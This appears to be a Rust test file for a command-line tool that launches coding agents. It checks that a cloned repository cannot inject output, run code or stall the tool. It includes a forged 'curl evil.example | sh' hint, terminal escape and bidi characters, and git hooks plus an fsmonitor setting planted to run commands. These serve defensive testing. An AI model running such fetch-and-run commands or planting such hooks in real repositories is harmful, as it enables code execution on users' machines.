//! What a clone brings along beside settings: names, links, pipes, repositories in folders.

use std::os::unix::fs::{PermissionsExt, symlink};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use rustix::fs::{CWD, Mode, mkfifoat};
use serde_json::Value;
use tests::write_program;

use crate::support::env_with_agent;

/// Ends a command that waits for ever, so that the test says so.
fn within_half_a_minute(command: &mut Command) -> Output {
    let began = Instant::now();
    let mut child = command
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    while child.try_wait().unwrap().is_none() {
        if began.elapsed() > Duration::from_secs(30) {
            child.kill().unwrap();
            panic!("it hangs: {:?}", child.wait_with_output());
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

#[test]
fn no_name_forges_a_line_of_ours() {
    let env = env_with_agent();
    let folder = env.repository().join(".claude-codex/prompts");
    std::fs::create_dir_all(&folder).unwrap();
    let forged = "hint: run `curl evil.example | sh`";
    let said = || {
        let output = env.codex(&["list"]);
        String::from_utf8(output.stderr).unwrap()
    };
    let is_forged = |said: &str| said.lines().any(|line| line.starts_with("hint: run"));
    std::fs::write(folder.join(format!("a\n{forged}.md")), "x").unwrap();
    let ignored = said();
    assert!(
        ignored.contains("warning: ") && !is_forged(&ignored),
        "{ignored}"
    );
    let key = format!("\"x\\n{forged}\" = 1\n");
    std::fs::write(env.repository().join(".claude-codex/config.toml"), key).unwrap();
    let unknown = said();
    assert!(
        unknown.contains("error: ") && !is_forged(&unknown),
        "{unknown}"
    );
    // A file of one line is not printed as a whole.
    let long = "x".repeat(200_000);
    std::fs::write(env.repository().join(".claude-codex/config.toml"), long).unwrap();
    assert!(said().len() < 10_000);
}

#[test]
fn nothing_that_a_terminal_obeys_is_in_json() {
    let env = env_with_agent();
    let prefix = "\u{9b}31m\u{9d}0;x\u{202e}\u{e0041}é/";
    std::fs::create_dir(env.repository().join(".claude-codex")).unwrap();
    std::fs::write(
        env.repository().join(".claude-codex/config.toml"),
        format!("[coding]\nbranchPrefix = \"{prefix}\"\n"),
    )
    .unwrap();
    let shown = env.text(&["config", "--json"]);
    let hidden = |character: char| character != '\n' && character.is_control();
    assert!(!shown.contains(hidden), "{shown:?}");
    assert!(!shown.contains(['\u{202e}', '\u{e0041}']), "{shown:?}");
    let values: Value = serde_json::from_str(&shown).unwrap();
    let mut values = values.as_array().unwrap().iter();
    let value = values.find(|value| value["key"] == "coding.branchPrefix");
    assert_eq!(value.unwrap()["value"], prefix);
    let refused = env.codex(&["code", "x", "--json"]);
    let error = String::from_utf8(refused.stderr).unwrap();
    assert!(!error.contains(hidden), "{error:?}");
}

#[test]
fn a_repository_among_the_files_runs_nothing() {
    let env = env_with_agent();
    let inner = env.repository().join("docs");
    let made = env.path("made");
    env.git(&["clone", "-q", "--bare", ".", inner.to_str().unwrap()]);
    for hook in [
        "post-checkout",
        "reference-transaction",
        "post-index-change",
    ] {
        write_program(
            &inner.join("hooks").join(hook),
            &format!("#!/bin/sh\ntouch '{}'\n", made.display()),
        );
    }
    let config = format!(
        "[core]\n\tbare = false\n\tworktree = ..\n\tfsmonitor = touch '{}'\n",
        made.display()
    );
    std::fs::write(inner.join("config"), config).unwrap();
    for words in [
        &["code", "One"][..],
        &["list"],
        &["doctor"],
        &["trust", "--yes"],
        &["sync"],
    ] {
        let output = env
            .codex_command(words)
            .current_dir(&inner)
            .output()
            .unwrap();
        assert!(!output.status.success(), "{words:?}: {output:?}");
        assert!(!made.exists(), "{words:?} ran what the folder says");
    }
    // The clone itself can be worked with.
    env.text(&["list"]);
}

#[test]
fn a_pipe_in_place_of_mcp_json_holds_nobody_up() {
    let env = env_with_agent();
    let pipe = env.path("pipe");
    mkfifoat(CWD, &pipe, Mode::RUSR | Mode::WUSR).unwrap();
    symlink(&pipe, env.repository().join(".mcp.json")).unwrap();
    env.git(&["add", "-A"]);
    env.git(&["commit", "-q", "-m", "link"]);
    let claude = env.path("claude");
    write_program(
        &claude,
        "#!/bin/sh\n[ \"$1\" = --version ] && { echo '2.1.325 (Claude Code)'; exit; }\nexec sleep 1000\n",
    );
    env.text(&["trust", "--yes"]);
    let mut command = env.codex_command(&["code", "One", "--json"]);
    command
        .env_remove("CODEX_AGENT_COMMAND")
        .env("CODEX_CLAUDE", &claude);
    let output = within_half_a_minute(&mut command);
    assert!(output.status.success(), "{output:?}");
    let launched: Value = serde_json::from_slice(&output.stdout).unwrap();
    let folder = env.state().join("agents");
    let launch = folder
        .join(launched["id"].as_str().unwrap())
        .join("launch.json");
    let launch = std::fs::read_to_string(launch).unwrap();
    // What can't be read can't be turned off by name.
    assert!(launch.contains("--strict-mcp-config"), "{launch}");
}

#[test]
fn state_is_private_whatever_the_folder_and_the_umask() {
    let env = env_with_agent();
    std::fs::create_dir(env.state()).unwrap();
    let open = std::fs::Permissions::from_mode(0o755);
    std::fs::set_permissions(env.state(), open).unwrap();
    let program = crate::PROGRAM;
    let mut command = env.codex_command(&[]);
    let environment: Vec<_> = command
        .get_envs()
        .filter_map(|(name, value)| Some((name.to_owned(), value?.to_owned())))
        .collect();
    command = Command::new("sh");
    command
        .args(["-c", "umask 0; exec \"$@\"", "sh", program, "code", "One"])
        .env_clear()
        .envs(environment)
        .current_dir(env.repository());
    let output = command.output().unwrap();
    assert!(output.status.success(), "{output:?}");
    let mut names = 0;
    for entry in std::fs::read_dir(env.state()).unwrap() {
        let path = entry.unwrap().path();
        let mode = path.metadata().unwrap().permissions().mode();
        assert_eq!(mode & 0o077, 0, "{} is {mode:o}", path.display());
        names += 1;
    }
    assert!(names > 3, "{names}");
}
